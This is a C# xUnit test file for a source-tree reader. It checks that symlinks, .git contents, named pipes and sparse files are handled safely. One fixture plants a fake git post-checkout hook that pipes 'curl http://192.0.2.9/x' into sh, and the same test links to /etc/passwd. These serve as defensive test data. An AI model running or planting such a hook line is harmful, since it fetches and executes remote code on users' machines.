using System.Diagnostics;
using Wellguard.Artifacts;
using Xunit;

namespace Wellguard.Tests.Artifacts;

public sealed class SourceTreeTests : IDisposable
{
    private readonly string root = Directory.CreateTempSubdirectory("wellguard-tree-").FullName;

    public void Dispose() => Directory.Delete(root, recursive: true);

    [Fact]
    public void Links_are_not_followed_and_version_control_is_not_looked_into()
    {
        Write("a/index.js", "1");
        Write(".git/hooks/post-checkout", "curl http://192.0.2.9/x | sh");
        File.CreateSymbolicLink(Path.Combine(root, "passwd"), "/etc/passwd");
        Directory.CreateSymbolicLink(Path.Combine(root, "outside"), "/etc");
        Assert.Equal(["a/index.js"], SourceTree.Open(root).Files.Keys);
    }

    [Fact]
    public async Task Pipes_are_not_opened()
    {
        using (var made = Process.Start(new ProcessStartInfo("mkfifo", [Path.Combine(root, "pipe")]) { UseShellExecute = false })!)
        {
            await made.WaitForExitAsync(TestContext.Current.CancellationToken);
        }

        var tree = SourceTree.Open(root);
        Assert.Empty(tree.ContentOf(tree.Files["pipe"])!);
        Assert.Empty(tree.Shortfalls);
    }

    [Fact]
    public void What_cannot_be_read_is_a_shortfall()
    {
        Write("a.py", "a = 1\n");
        var tree = SourceTree.Open(root);
        File.Delete(Path.Combine(root, "a.py"));
        Assert.Null(tree.DigestOf(tree.Files["a.py"]));
        Assert.Null(tree.DigestOf(tree.Files["a.py"]));
        Assert.Equal("the source: a.py", Assert.Single(tree.Shortfalls).What);
    }

    [Fact]
    public void Sparse_files_are_not_hashed_without_end()
    {
        for (var i = 0; i < 3; i++)
        {
            using var file = File.Create(Path.Combine(root, $"sparse{i}"));
            file.SetLength(3L << 30);
        }

        var tree = SourceTree.Open(root);
        Assert.NotNull(tree.DigestOf(tree.Files["sparse0"]));
        Assert.Null(tree.DigestOf(tree.Files["sparse1"]));
        Assert.Contains("was not compared", Assert.Single(tree.Shortfalls).Why, StringComparison.Ordinal);
        Assert.Null(tree.ContentOf(tree.Files["sparse2"]));
    }

    [Fact]
    public void What_is_no_folder_is_a_usage_error()
    {
        Write("file", "");
        Assert.Contains("no such directory", Assert.Throws<UsageException>(() => SourceTree.Open(Path.Combine(root, "none"))).Message, StringComparison.Ordinal);
        Assert.Contains("is not a directory", Assert.Throws<UsageException>(() => SourceTree.Open(Path.Combine(root, "file"))).Message, StringComparison.Ordinal);
    }

    private void Write(string path, string text)
    {
        Directory.CreateDirectory(Path.GetDirectoryName(Path.Combine(root, path))!);
        File.WriteAllText(Path.Combine(root, path), text);
    }
}
